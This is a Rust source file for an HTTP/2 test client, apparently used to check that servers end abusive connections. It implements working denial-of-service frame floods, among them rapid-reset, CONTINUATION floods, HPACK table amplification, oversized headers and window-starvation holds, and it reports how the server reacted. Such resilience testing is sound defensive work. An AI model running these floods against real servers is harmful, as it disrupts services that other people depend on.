//! An HTTP/2 client that does what no honest one does, for use inside pods.
//!
//! Enters: an address and the name of an attack. Leaves: how many frames were sent before the other side ended the
//! connection. Never: more than [`MOST`] frames on one connection, a wait without end.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

/// Frames after which an attack gives up.
pub const MOST: u32 = 20_000;
/// Frames of one write.
const BATCH: u32 = 100;
/// How long the other side has to read a batch before the next.
const PACE: Duration = Duration::from_millis(20);

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PUSH_PROMISE: u8 = 5;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const UNKNOWN: u8 = 0xbb;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const PADDED: u8 = 8;

/// Every attack that must cost its connection.
pub const ENDING: &[&str] = &[
    "rapid-reset",
    "reset-of-nothing",
    "server-reset-window-zero",
    "server-reset-window-overflow",
    "server-reset-half-closed",
    "server-reset-length",
    "server-reset-self-dependency",
    "continuation-small",
    "continuation-empty",
    "continuation-large",
    "head-too-large",
    "head-from-table",
    "cookie-crumbs",
    "dropped-fields",
    "many-fields",
    "trailers-too-large",
    "empty-data",
    "padding-only",
    "small-data",
    "settings",
    "settings-window",
    "settings-ack",
    "ping",
    "ping-ack",
    "priority",
    "window-update",
    "unknown-frames",
    "push-promise",
    "goaway",
];

/// Attacks that only hold what they have.
pub const HOLDING: &[&str] = &["no-window", "half-requests", "unread"];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A length of HPACK with a prefix of 7 bits.
fn length(out: &mut Vec<u8>, value: usize) {
    if value < 127 {
        return out.push(u8::try_from(value).unwrap());
    }
    out.push(127);
    let mut rest = value - 127;
    while rest >= 128 {
        out.push(u8::try_from(rest % 128).unwrap() | 128);
        rest /= 128;
    }
    out.push(u8::try_from(rest).unwrap());
}

fn text(out: &mut Vec<u8>, text: &str) {
    length(out, text.len());
    out.extend(text.as_bytes());
}

/// A field that enters no table; `first` says how it is to be indexed.
fn field(out: &mut Vec<u8>, first: u8, name: &str, value: &str) {
    out.push(first);
    text(out, name);
    text(out, value);
}

/// A whole request's fields, and more.
fn head(authority: &str, path: &str, more: &[(&str, String)]) -> Vec<u8> {
    // :method GET and :scheme http of the static table.
    let mut block = vec![0x82, 0x86];
    block.push(0x04);
    text(&mut block, path);
    block.push(0x01);
    text(&mut block, authority);
    for (name, value) in more {
        field(&mut block, 0x00, name, value);
    }
    block
}

fn headers(stream: u32, flags: u8, block: &[u8]) -> Vec<u8> {
    const LARGEST: usize = 16_384;
    let mut pieces = block.chunks(LARGEST).peekable();
    let first = pieces.next().unwrap_or_default();
    let end = if pieces.peek().is_none() { END_HEADERS } else { 0 };
    let mut out = frame(HEADERS, flags | end, stream, first);
    while let Some(piece) = pieces.next() {
        let end = if pieces.peek().is_none() { END_HEADERS } else { 0 };
        out.extend(frame(CONTINUATION, end, stream, piece));
    }
    out
}

/// What an attack sends, frame by frame.
struct Attack<'a> {
    kind: &'a str,
    authority: &'a str,
    /// Frames so far.
    sent: u32,
    /// Streams so far.
    streams: u32,
}

impl Attack<'_> {
    fn next_stream(&mut self) -> u32 {
        self.streams += 1;
        self.last_stream()
    }

    fn last_stream(&self) -> u32 {
        (2 * self.streams).saturating_sub(1)
    }

    /// Counts the frames of `bytes` and adds them.
    fn add(&mut self, out: &mut Vec<u8>, bytes: &[u8]) {
        let mut at = 0;
        while at < bytes.len() {
            let length = u32::from_be_bytes([0, bytes[at], bytes[at + 1], bytes[at + 2]]);
            at += 9 + length as usize;
            self.sent += 1;
        }
        out.extend(bytes);
    }

    /// What comes once, before the flood.
    fn opening(&mut self, out: &mut Vec<u8>) {
        let plain = head(self.authority, "/", &[]);
        match self.kind {
            "continuation-small" | "continuation-empty" | "continuation-large" => {
                let stream = self.next_stream();
                self.add(out, &frame(HEADERS, END_STREAM, stream, &plain));
            }
            "empty-data" | "padding-only" | "small-data" => {
                let stream = self.next_stream();
                self.add(out, &headers(stream, 0, &plain));
            }
            _ => {}
        }
    }

    /// The next few frames of the flood.
    fn more(&mut self, out: &mut Vec<u8>) {
        let plain = head(self.authority, "/", &[]);
        let many = |name: &'static str, count: usize, value: &str| {
            std::iter::repeat_n((name, value.to_owned()), count).collect::<Vec<_>>()
        };
        let large: Vec<u8> = {
            let mut block = Vec::new();
            for number in 0..16 {
                field(&mut block, 0x00, &format!("x-{number}"), &"y".repeat(1_000));
            }
            block
        };
        match self.kind {
            "rapid-reset" => {
                let stream = self.next_stream();
                self.add(out, &headers(stream, END_STREAM, &plain));
                self.add(out, &frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
            }
            "reset-of-nothing" => {
                if self.streams == 0 {
                    let stream = self.next_stream();
                    self.add(out, &headers(stream, END_STREAM, &plain));
                }
                self.add(
                    out,
                    &frame(RST_STREAM, 0, self.last_stream(), &8u32.to_be_bytes()),
                );
            }
            "server-reset-window-zero" => {
                let stream = self.next_stream();
                self.add(out, &headers(stream, 0, &plain));
                self.add(out, &frame(WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes()));
            }
            "server-reset-window-overflow" => {
                let stream = self.next_stream();
                self.add(out, &headers(stream, 0, &plain));
                let most = 0x7fff_ffff_u32.to_be_bytes();
                self.add(out, &frame(WINDOW_UPDATE, 0, stream, &most));
            }
            "server-reset-half-closed" => {
                let stream = self.next_stream();
                self.add(out, &headers(stream, END_STREAM, &plain));
                self.add(out, &frame(DATA, 0, stream, b"more"));
            }
            "server-reset-length" => {
                let stream = self.next_stream();
                let block = head(self.authority, "/", &[("content-length", "1".to_owned())]);
                self.add(out, &headers(stream, 0, &block));
                self.add(out, &frame(DATA, 0, stream, b"more"));
            }
            "server-reset-self-dependency" => {
                let stream = self.next_stream();
                self.add(out, &headers(stream, 0, &plain));
                let mut payload = stream.to_be_bytes().to_vec();
                payload.push(15);
                self.add(out, &frame(PRIORITY, 0, stream, &payload));
            }
            "continuation-small" => {
                let mut block = Vec::new();
                field(&mut block, 0x00, "x", "y");
                let stream = self.last_stream();
                self.add(out, &frame(CONTINUATION, 0, stream, &block));
            }
            "continuation-empty" => {
                let stream = self.last_stream();
                self.add(out, &frame(CONTINUATION, 0, stream, b""));
            }
            "continuation-large" => {
                let stream = self.last_stream();
                self.add(out, &frame(CONTINUATION, 0, stream, &large));
            }
            "head-too-large" => {
                let block = head(self.authority, "/", &many("x-large", 90, &"y".repeat(1_000)));
                let stream = self.next_stream();
                self.add(out, &headers(stream, END_STREAM, &block));
            }
            "head-from-table" => {
                // One field of 4,000 bytes enters the dynamic table; every byte after that names it once more.
                let mut block = head(self.authority, "/", &[]);
                field(&mut block, 0x40, "x-a", &"y".repeat(3_900));
                block.extend(std::iter::repeat_n(0xbe, 12_000));
                let stream = self.next_stream();
                self.add(out, &headers(stream, END_STREAM, &block));
            }
            "cookie-crumbs" => {
                let block = head(self.authority, "/", &many("cookie", 4_000, "a=b"));
                let stream = self.next_stream();
                self.add(out, &headers(stream, END_STREAM, &block));
            }
            "dropped-fields" => {
                let block = head(self.authority, "/", &many("x-forwarded-client-cert", 1_500, ""));
                let stream = self.next_stream();
                self.add(out, &headers(stream, END_STREAM, &block));
            }
            "many-fields" => {
                let block = head(self.authority, "/", &many("x", 1_500, ""));
                let stream = self.next_stream();
                self.add(out, &headers(stream, END_STREAM, &block));
            }
            "trailers-too-large" => {
                let stream = self.next_stream();
                self.add(out, &headers(stream, 0, &plain));
                let mut block = Vec::new();
                for _ in 0..90 {
                    field(&mut block, 0x00, "x-large", &"y".repeat(1_000));
                }
                self.add(out, &headers(stream, END_STREAM, &block));
            }
            "empty-data" => {
                let stream = self.last_stream();
                self.add(out, &frame(DATA, 0, stream, b""));
            }
            "padding-only" => {
                let stream = self.last_stream();
                self.add(out, &frame(DATA, PADDED, stream, &[1, 0]));
            }
            "small-data" => {
                let stream = self.last_stream();
                self.add(out, &frame(DATA, 0, stream, b"x"));
            }
            "settings" => self.add(out, &frame(SETTINGS, 0, 0, b"")),
            "settings-window" => {
                let size = 1_000 + self.sent % 1_000;
                let mut payload = vec![0, 4];
                payload.extend(size.to_be_bytes());
                self.add(out, &frame(SETTINGS, 0, 0, &payload));
            }
            "settings-ack" => self.add(out, &frame(SETTINGS, 1, 0, b"")),
            "ping" => self.add(out, &frame(PING, 0, 0, b"12345678")),
            "ping-ack" => self.add(out, &frame(PING, 1, 0, b"12345678")),
            "priority" => {
                let stream = 2 * self.sent + 1;
                self.add(out, &frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 1]));
            }
            "window-update" => self.add(out, &frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes())),
            "unknown-frames" => self.add(out, &frame(UNKNOWN, 0xff, 0, b"anything")),
            "push-promise" => {
                let mut payload = 2u32.to_be_bytes().to_vec();
                payload.extend(plain);
                self.add(out, &frame(PUSH_PROMISE, END_HEADERS, 1, &payload));
            }
            "goaway" => self.add(out, &frame(GOAWAY, 0, 0, &[0, 0, 0, 0, 0, 0, 0, 0])),
            // As many streams as there may be, each of which may send nothing.
            "no-window" if self.streams < 240 => {
                let stream = self.next_stream();
                let block = head(self.authority, "/?size=100000", &[]);
                self.add(out, &headers(stream, END_STREAM, &block));
            }
            "half-requests" if self.streams < 240 => {
                let stream = self.next_stream();
                self.add(out, &headers(stream, 0, &plain));
                self.add(out, &frame(DATA, 0, stream, &[b'x'; 50]));
            }
            "unread" if self.streams < 240 => {
                let stream = self.next_stream();
                let block = head(self.authority, "/?size=60000", &[]);
                self.add(out, &headers(stream, END_STREAM, &block));
            }
            _ => {}
        }
    }
}

/// Runs an attack and prints `FRAMES ended|open HOW`. A holding attack holds for so many milliseconds.
pub fn run(host: &str, port: &str, authority: &str, kind: &str, hold: &str) -> std::io::Result<()> {
    let hold = Duration::from_millis(hold.parse().map_err(std::io::Error::other)?);
    let mut stream = TcpStream::connect((host, port.parse().map_err(std::io::Error::other)?))?;
    stream.set_nodelay(true)?;
    stream.set_write_timeout(Some(Duration::from_secs(10)))?;
    stream.set_read_timeout(Some(PACE))?;
    let mut attack = Attack {
        kind,
        authority,
        sent: 0,
        streams: 0,
    };
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // Windows: none where nothing shall flow, all there is otherwise.
    let window: u32 = if kind == "no-window" { 0 } else { 0x7fff_ffff };
    let mut settings = vec![0, 4];
    settings.extend(window.to_be_bytes());
    out.extend(frame(SETTINGS, 0, 0, &settings));
    out.extend(frame(WINDOW_UPDATE, 0, 0, &0x7000_0000_u32.to_be_bytes()));
    attack.opening(&mut out);
    let holding = HOLDING.contains(&kind);
    let unread = kind == "unread";
    let mut answers = Answers::default();
    let end = Instant::now() + hold;
    loop {
        let before = attack.sent;
        while attack.sent < before + BATCH {
            let at = attack.sent;
            attack.more(&mut out);
            if attack.sent == at {
                break;
            }
        }
        let written = stream.write_all(&out);
        out.clear();
        let ended = match written {
            Err(error) if error.kind() == ErrorKind::WouldBlock => Some("does not read".to_owned()),
            Err(error) => Some(answers.how().unwrap_or_else(|| error.kind().to_string())),
            Ok(()) if unread => None,
            Ok(()) => answers.read(&mut stream),
        };
        if let Some(how) = ended {
            println!("{} ended {how}", attack.sent);
            return Ok(());
        }
        if holding && attack.sent == before {
            std::thread::sleep(PACE);
        }
        if attack.sent >= MOST || (holding && Instant::now() > end) {
            println!("{} open", attack.sent);
            return Ok(());
        }
    }
}

/// What came back.
#[derive(Default)]
struct Answers {
    bytes: Vec<u8>,
    goaway: Option<u32>,
}

impl Answers {
    /// Reads until there is nothing for a moment; says how the connection ended, if it did.
    fn read(&mut self, stream: &mut TcpStream) -> Option<String> {
        let mut buffer = [0; 64 * 1024];
        loop {
            match stream.read(&mut buffer) {
                Ok(0) => return Some(self.how().unwrap_or_else(|| "closed".to_owned())),
                Ok(length) => self.take(&buffer[..length]),
                Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                    return None;
                }
                Err(error) => return Some(self.how().unwrap_or_else(|| error.kind().to_string())),
            }
        }
    }

    fn take(&mut self, bytes: &[u8]) {
        self.bytes.extend(bytes);
        while self.bytes.len() >= 9 {
            let length = u32::from_be_bytes([0, self.bytes[0], self.bytes[1], self.bytes[2]]) as usize;
            if self.bytes.len() < 9 + length {
                return;
            }
            if self.bytes[3] == GOAWAY && length >= 8 {
                let code: [u8; 4] = self.bytes[13..17].try_into().unwrap();
                self.goaway = Some(u32::from_be_bytes(code));
            }
            self.bytes.drain(..9 + length);
        }
    }

    fn how(&self) -> Option<String> {
        self.goaway.map(|code| format!("goaway {code}"))
    }
}
